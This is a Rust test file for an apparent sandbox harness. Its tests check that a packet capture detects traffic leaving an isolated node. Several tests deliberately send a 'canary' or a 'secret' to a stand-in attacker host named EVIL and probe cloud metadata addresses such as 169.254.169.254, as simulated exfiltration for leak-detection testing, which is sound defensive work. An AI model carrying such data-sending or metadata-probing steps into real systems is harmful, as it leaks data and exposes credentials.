//! The test world tested: a judge that cannot see a leak proves nothing.

use std::{
    io::{Read as _, Write as _},
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket},
    sync::Arc,
    time::Duration,
};

use harness::{
    capture::protocol,
    suite, wait,
    world::{EVIL, GATEWAY, NODE, OK, RESOLVER, World},
};

mod servers;

const PATIENCE: Duration = Duration::from_secs(60);

/// The standard world, or `None` where there is no root and none is required.
fn world() -> Option<Arc<World>> {
    suite::root().then(|| World::fixture().build().expect("the world stands"))
}

fn connect_from_node(world: &World, to: impl Into<SocketAddr>) -> std::io::Result<TcpStream> {
    let to = to.into();
    world
        .node()
        .run(move || TcpStream::connect_timeout(&to, PATIENCE))
}

#[test]
fn a_packet_that_leaves_is_seen_and_one_that_does_not_is_not() {
    let Some(world) = world() else { return };
    let mark = world.capture().mark();
    world.capture().assert_nothing_to(EVIL, mark);
    world.node().run(|| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("a socket");
        socket.send_to(b"canary", (EVIL, 443)).expect("sent");
    });
    let mut seen = world.capture().sent_to(EVIL, mark);
    // The collector echoes to a socket that is gone, which the node's kernel tells it.
    seen.retain(|packet| packet.protocol == protocol::UDP);
    let [packet] = seen.as_slice() else {
        panic!("one packet was sent: {seen:?}")
    };
    assert_eq!((packet.source, packet.protocol), (NODE.into(), protocol::UDP));
    assert_eq!(
        (packet.destination_port, packet.payload.as_slice()),
        (443, b"canary".as_slice())
    );
    wait::until("the collector has it", PATIENCE, || {
        let arrivals = world.udp_collector((EVIL, 443)).arrivals();
        arrivals
            .iter()
            .any(|arrival| arrival.bytes == b"canary")
            .then_some(())
    });
    let later = world.capture().mark();
    world.capture().assert_nothing_to(EVIL, later);
}

#[test]
fn packets_to_private_and_metadata_addresses_and_by_ipv6_would_be_seen() {
    let Some(world) = world() else { return };
    let mark = world.capture().mark();
    let targets: [IpAddr; 7] = [
        "10.0.0.5".parse().expect("an address"),
        "172.16.0.5".parse().expect("an address"),
        "192.168.0.5".parse().expect("an address"),
        "100.64.0.5".parse().expect("an address"),
        "169.254.169.254".parse().expect("an address"),
        "168.63.129.16".parse().expect("an address"),
        "2001:db8:66::66".parse().expect("an address"),
    ];
    for target in targets {
        world.node().run(move || {
            let any: IpAddr = if target.is_ipv4() {
                [0, 0, 0, 0].into()
            } else {
                [0_u16; 8].into()
            };
            let socket = UdpSocket::bind((any, 0)).expect("a socket");
            socket.send_to(b"canary", (target, 9999)).expect("sent");
        });
        wait::until(&format!("{target} is seen"), PATIENCE, || {
            (!world.capture().sent_to(target, mark).is_empty()).then_some(())
        });
    }
}

#[test]
fn a_connection_to_the_attacker_is_seen_on_the_link_and_by_the_attacker() {
    let Some(world) = world() else { return };
    let mark = world.capture().mark();
    let mut stream = connect_from_node(&world, (EVIL, 22)).expect("the attacker listens");
    stream.write_all(b"secret").expect("sent");
    stream.set_read_timeout(Some(PATIENCE)).expect("a timeout");
    let mut echo = [0; 6];
    stream.read_exact(&mut echo).expect("the collector echoes");
    let seen = world.capture().sent_to(EVIL, mark);
    assert_eq!(seen.iter().filter(|packet| packet.opens).count(), 1, "{seen:?}");
    assert!(seen.iter().any(|packet| packet.payload == b"secret"), "{seen:?}");
    let arrivals = world.tcp_collector((EVIL, 22)).arrivals();
    assert_eq!(arrivals[0].bytes, b"secret");
}

#[test]
fn a_burst_is_recorded_whole() {
    let Some(world) = world() else { return };
    let mark = world.capture().mark();
    world.node().run(|| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("a socket");
        for _ in 0..5000 {
            socket.send_to(&[0; 1200], (EVIL, 8080)).expect("sent");
        }
    });
    let mut seen = world.capture().sent_to(EVIL, mark);
    seen.retain(|packet| packet.protocol == protocol::UDP);
    assert_eq!(seen.len(), 5000);
}

#[test]
fn the_node_has_no_way_out_but_the_world() {
    let Some(world) = world() else { return };
    for target in ["203.0.113.1", "1.1.1.1", "192.0.2.1"] {
        let route = world.node().ip(&format!("route get {target}")).expect("a route");
        assert!(route.contains(&format!("via {GATEWAY} dev uplink")), "{route}");
        let route = world
            .internet()
            .ip(&format!("-4 route get {target}"))
            .expect("a route");
        assert!(
            route.starts_with("local "),
            "the internet would send it on: {route}"
        );
    }
    let resolv = world.node().command("cat", &["/etc/resolv.conf"]).expect("cat");
    assert_eq!(
        String::from_utf8_lossy(&resolv.stdout),
        format!("nameserver {RESOLVER}\n")
    );
    let outside = std::fs::read_to_string("/etc/resolv.conf").expect("the machine has one");
    assert!(
        !outside.contains("203.0.113.53"),
        "the node's resolv.conf is seen outside"
    );
}

#[test]
fn worlds_stand_beside_each_other_and_see_only_their_own() {
    let (Some(one), Some(other)) = (world(), world()) else {
        return;
    };
    let (mark, other_mark) = (one.capture().mark(), other.capture().mark());
    connect_from_node(&one, (OK, 443)).expect("ok.test listens");
    one.capture().assert_something_to(OK, mark);
    other.capture().assert_nothing_to(OK, other_mark);
}

#[test]
fn nothing_of_a_world_outlives_it() {
    let Some(world) = world() else { return };
    let directory = world.directory().to_owned();
    let mut command = std::process::Command::new("sh");
    // An orphan with a mount: what a killed runtime leaves behind.
    let script =
        "mkdir -p \"$0/mnt\" && mount -t tmpfs none \"$0/mnt\" && (setsid sleep 997 >/dev/null 2>&1 &)";
    command.args(["-c", script]).arg(&directory);
    world.node().run(move || command.output()).expect("sh runs");
    let orphan = || {
        let processes = std::fs::read_dir("/proc").expect("proc").filter_map(Result::ok);
        let mut lines = processes.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
        lines.any(|line| line == b"sleep\x00997\x00")
    };
    wait::until("the orphan runs", PATIENCE, || orphan().then_some(()));
    drop(world);
    wait::until("the orphan is gone", PATIENCE, || (!orphan()).then_some(()));
    assert!(!directory.exists(), "{} is still there", directory.display());
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    assert!(!mounts.contains(&directory.display().to_string()), "{mounts}");
}
